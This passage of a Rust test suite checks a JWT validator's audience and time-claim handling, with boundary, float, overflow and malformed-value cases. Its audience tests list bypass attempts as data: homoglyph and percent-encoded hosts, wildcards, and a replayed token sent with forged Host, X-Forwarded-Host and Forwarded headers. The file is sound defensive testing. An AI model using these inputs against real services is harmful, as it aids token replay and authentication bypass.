            &with_aud(&format!("{AUD}\u{0}")),
            audience(Other),
        ),
        bearer(
            "Cyrillic a in the host",
            &with_aud("https://custom-dom\u{0430}in.com"),
            audience(Other),
        ),
        bearer(
            "percent-encoded host",
            &with_aud("https://custom%2Ddomain.com"),
            audience(Other),
        ),
        bearer("wildcard", &with_aud("*"), audience(Other)),
        bearer("wildcard host", &with_aud("https://*.com"), audience(Other)),
        // Another service's token replayed here, with forged host headers.
        forged(
            "other service's token, forged Host",
            &[("host", "other-service.example")],
        ),
        forged(
            "other service's token, forged X-Forwarded-Host",
            &[
                ("x-forwarded-host", "other-service.example"),
                ("x-forwarded-proto", "https"),
            ],
        ),
        forged(
            "other service's token, forged Forwarded",
            &[("forwarded", "host=other-service.example;proto=https")],
        ),
        forged(
            "other service's token, all host headers forged",
            &[
                ("host", "other-service.example"),
                ("x-forwarded-host", "other-service.example"),
                ("x-forwarded-proto", "https"),
                ("x-original-host", "other-service.example"),
                ("forwarded", "host=other-service.example;proto=https"),
            ],
        ),
        request(
            "other service's token, absolute request URI",
            Request::get(format!("{other_service}/"))
                .header(header::AUTHORIZATION, format!("Bearer {replayed}"))
                .body(Body::empty())
                .unwrap(),
            audience(Other),
        ),
        request(
            "our token with a forged Host still passes (the host is not the audience)",
            Request::get("/")
                .header(header::AUTHORIZATION, format!("Bearer {}", valid()))
                .header("host", "other-service.example")
                .header("x-forwarded-host", "other-service.example")
                .body(Body::empty())
                .unwrap(),
            Accept,
        ),
    ];
    run("audience", &world.auth, cases).await;
}

// ---------------------------------------------------------------------------
// Time
// ---------------------------------------------------------------------------

#[tokio::test]
async fn time_cases() {
    let world = World::new();
    let at = |claim: &str, raw: String| signed_with(&[(claim, Some(&raw))]);
    let exp = |raw: String| at("exp", raw);
    let iat = |raw: String| at("iat", raw);
    let nbf = |raw: String| at("nbf", raw);
    let expired = || Refuse(AuthError::Expired);
    let future = || Refuse(AuthError::IssuedInFuture);
    let too_old = || Refuse(AuthError::IssuedTooLongAgo);
    let not_yet = || Refuse(AuthError::NotYetValid);
    let bad = |claim| Refuse(AuthError::InvalidClaim(claim));

    let cases = vec![
        // Missing.
        bearer(
            "exp missing",
            &signed_with(&[("exp", None)]),
            Refuse(AuthError::MissingClaim(Claim::Exp)),
        ),
        bearer(
            "iat missing",
            &signed_with(&[("iat", None)]),
            Refuse(AuthError::MissingClaim(Claim::Iat)),
        ),
        bearer("nbf missing (optional)", &signed_with(&[]), Accept),
        // exp around now + 1 s.
        bearer("exp 0", &exp("0".into()), expired()),
        bearer("exp T - 1", &exp((T - 1).to_string()), expired()),
        bearer("exp T", &exp(T.to_string()), expired()),
        bearer(
            "exp T + 1 (now + offset)",
            &exp((T + 1).to_string()),
            expired(),
        ),
        bearer("exp T + 2", &exp((T + 2).to_string()), Accept),
        bearer(
            "exp far ahead (9999-12-31)",
            &exp(MAX_TIME.to_string()),
            Accept,
        ),
        // iat around now + 1 s and now - 1 h.
        bearer("iat T + 1", &iat((T + 1).to_string()), Accept),
        bearer("iat T + 2", &iat((T + 2).to_string()), future()),
        bearer("iat an hour ahead", &iat((T + 3600).to_string()), future()),
        bearer("iat T - 3600", &iat((T - 3600).to_string()), Accept),
        bearer("iat T - 3601", &iat((T - 3601).to_string()), too_old()),
        // ZITADEL reads an iat of 0 (after cutting off a fraction) as no iat.
        bearer(
            "iat 0",
            &iat("0".into()),
            Refuse(AuthError::MissingClaim(Claim::Iat)),
        ),
        bearer(
            "iat 0.9",
            &iat("0.9".into()),
            Refuse(AuthError::MissingClaim(Claim::Iat)),
        ),
        bearer(
            "iat a day ago, exp ahead",
            &iat((T - 86_400).to_string()),
            too_old(),
        ),
        // nbf around now + 1 s.
        bearer("nbf T + 1", &nbf((T + 1).to_string()), Accept),
        bearer("nbf T + 2", &nbf((T + 2).to_string()), not_yet()),
        bearer("nbf a day ahead", &nbf((T + 86_400).to_string()), not_yet()),
        bearer("nbf 0", &nbf("0".into()), Accept),
        // Order: exp is checked before iat.
        bearer(
            "expired and iat in the future",
            &signed_with(&[
                ("exp", Some(&T.to_string())),
                ("iat", Some(&(T + 10).to_string())),
            ]),
            expired(),
        ),
        // Strings.
        bearer(
            "exp a numeric string",
            &exp(format!("\"{EXP}\"")),
            bad(Claim::Exp),
        ),
        bearer(
            "exp RFC 3339",
            &exp("\"2023-11-14T23:13:20Z\"".into()),
            bad(Claim::Exp),
        ),
        bearer(
            "iat a numeric string",
            &iat(format!("\"{T}\"")),
            bad(Claim::Iat),
        ),
        bearer(
            "iat RFC 3339",
            &iat("\"2023-11-14T22:13:20Z\"".into()),
            bad(Claim::Iat),
        ),
        bearer(
            "nbf a numeric string",
            &nbf(format!("\"{T}\"")),
            bad(Claim::Nbf),
        ),
        bearer("exp null", &exp("null".into()), bad(Claim::Exp)),
        bearer("exp true", &exp("true".into()), bad(Claim::Exp)),
        bearer("exp an array", &exp(format!("[{EXP}]")), bad(Claim::Exp)),
        bearer(
            "iat an object",
            &iat(format!("{{\"t\":{T}}}")),
            bad(Claim::Iat),
        ),
        bearer("nbf null", &nbf("null".into()), bad(Claim::Nbf)),
        // Floats: the fraction is cut off.
        bearer("exp T + 2.9", &exp(format!("{}.9", T + 2)), Accept),
        bearer("exp T + 1.999", &exp(format!("{}.999", T + 1)), expired()),
        bearer("exp 1.7e9 (= T)", &exp("1.7e9".into()), expired()),
        bearer("exp 1e10", &exp("1e10".into()), Accept),
        bearer("iat T + 1.9", &iat(format!("{}.9", T + 1)), Accept),
        bearer("iat T + 2.0", &iat(format!("{}.0", T + 2)), future()),
        bearer(
            "iat T - 3600.5 (cut to T - 3601)",
            &iat(format!("{}.5", T - 3601)),
            too_old(),
        ),
        bearer("iat T - 3599.5", &iat(format!("{}.5", T - 3600)), Accept),
        bearer("nbf T + 1.5", &nbf(format!("{}.5", T + 1)), Accept),
        bearer("nbf T + 2.5", &nbf(format!("{}.5", T + 2)), not_yet()),
        bearer("iat 1.7e9", &iat("1.7e9".into()), Accept),
        // Negatives.
        bearer("exp -1", &exp("-1".into()), bad(Claim::Exp)),
        bearer("exp -0.5", &exp("-0.5".into()), bad(Claim::Exp)),
        bearer("exp -0", &exp("-0".into()), expired()),
        bearer("exp -T", &exp(format!("-{EXP}")), bad(Claim::Exp)),
        bearer("iat -1", &iat("-1".into()), bad(Claim::Iat)),
        bearer(
            "iat -0.0",
            &iat("-0.0".into()),
            Refuse(AuthError::MissingClaim(Claim::Iat)),
        ),
        bearer("nbf -1", &nbf("-1".into()), bad(Claim::Nbf)),
        bearer("iat i64::MIN", &iat(i64::MIN.to_string()), bad(Claim::Iat)),
        bearer(
            "iat -2^64",
            &iat("-18446744073709551616".into()),
            bad(Claim::Iat),
        ),
        // Too large.
        bearer(
            "exp 9999-12-31T23:59:59Z + 1",
            &exp((MAX_TIME + 1).to_string()),
            bad(Claim::Exp),
        ),
        bearer("exp i64::MAX", &exp(i64::MAX.to_string()), bad(Claim::Exp)),
        bearer("exp u64::MAX", &exp(u64::MAX.to_string()), bad(Claim::Exp)),
        bearer(
            "exp 2^64",
            &exp("18446744073709551616".into()),
            bad(Claim::Exp),
        ),
        bearer(
            "exp 10^30",
            &exp(format!("1{}", "0".repeat(30))),
            bad(Claim::Exp),
        ),
        bearer("exp 1e19", &exp("1e19".into()), bad(Claim::Exp)),
        bearer("exp 1e308", &exp("1e308".into()), bad(Claim::Exp)),
        bearer(
            "exp 1e400 (not a finite number)",
            &exp("1e400".into()),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "iat 2^64",
            &iat("18446744073709551616".into()),
            bad(Claim::Iat),
        ),
        bearer("iat u64::MAX", &iat(u64::MAX.to_string()), bad(Claim::Iat)),
        bearer(
            "nbf 2^64",
            &nbf("18446744073709551616".into()),
            bad(Claim::Nbf),
        ),
        bearer("nbf u64::MAX", &nbf(u64::MAX.to_string()), bad(Claim::Nbf)),
        bearer(
            "nbf 9999-12-31T23:59:59Z + 1",
            &nbf((MAX_TIME + 1).to_string()),
            bad(Claim::Nbf),
        ),
        bearer("exp 5e-324", &exp("5e-324".into()), expired()),
    ];
    run("time", &world.auth, cases).await;
}

/// The boundaries when "now" is not a whole second: ZITADEL rounds now ± offset
/// and now - max age to the second, halves up, for `iat`.
#[tokio::test]
async fn time_boundaries_between_seconds() {
    let at = |claim: &str, value: u64| signed_with(&[(claim, Some(&value.to_string()))]);

    // now = T + 0.5 s: now + 1 s = T + 1.5 s rounds to T + 2; now - 1 h rounds to T - 3599.
    let half = World::at(Duration::from_millis(500));
    let cases = vec![
        bearer("T+0.5: iat T + 2", &at("iat", T + 2), Accept),
        bearer(
            "T+0.5: iat T + 3",
            &at("iat", T + 3),
            Refuse(AuthError::IssuedInFuture),
        ),
        bearer("T+0.5: iat T - 3599", &at("iat", T - 3599), Accept),
        bearer(
            "T+0.5: iat T - 3600",
            &at("iat", T - 3600),
            Refuse(AuthError::IssuedTooLongAgo),
        ),
        bearer("T+0.5: exp T + 2", &at("exp", T + 2), Accept),
        bearer(
            "T+0.5: exp T + 1",
            &at("exp", T + 1),
            Refuse(AuthError::Expired),
        ),
        bearer("T+0.5: nbf T + 1", &at("nbf", T + 1), Accept),
        bearer(
            "T+0.5: nbf T + 2",
            &at("nbf", T + 2),
            Refuse(AuthError::NotYetValid),
        ),
    ];
    run("time (T + 0.5 s)", &half.auth, cases).await;

    // now = T + 0.499999999 s: now + 1 s rounds to T + 1; now - 1 h to T - 3600.
    let below = World::at(Duration::from_nanos(499_999_999));
    let cases = vec![
        bearer("T+0.49: iat T + 1", &at("iat", T + 1), Accept),
        bearer(
            "T+0.49: iat T + 2",
            &at("iat", T + 2),
            Refuse(AuthError::IssuedInFuture),
        ),
        bearer("T+0.49: iat T - 3600", &at("iat", T - 3600), Accept),
        bearer(
            "T+0.49: iat T - 3601",
            &at("iat", T - 3601),
            Refuse(AuthError::IssuedTooLongAgo),
        ),
        bearer("T+0.49: exp T + 2", &at("exp", T + 2), Accept),
        bearer(
            "T+0.49: exp T + 1",
            &at("exp", T + 1),
            Refuse(AuthError::Expired),
        ),
    ];
    run("time (T + 0.499999999 s)", &below.auth, cases).await;

    // now = T + 0.999999999 s: exp T + 2 is still after now + 1 s.
    let late = World::at(Duration::from_nanos(999_999_999));
    let cases = vec![
        bearer("T+0.99: exp T + 2", &at("exp", T + 2), Accept),
        bearer(
            "T+0.99: nbf T + 2",
            &at("nbf", T + 2),
            Refuse(AuthError::NotYetValid),
        ),
        bearer("T+0.99: iat T + 2", &at("iat", T + 2), Accept),
    ];
    run("time (T + 0.999999999 s)", &late.auth, cases).await;
}
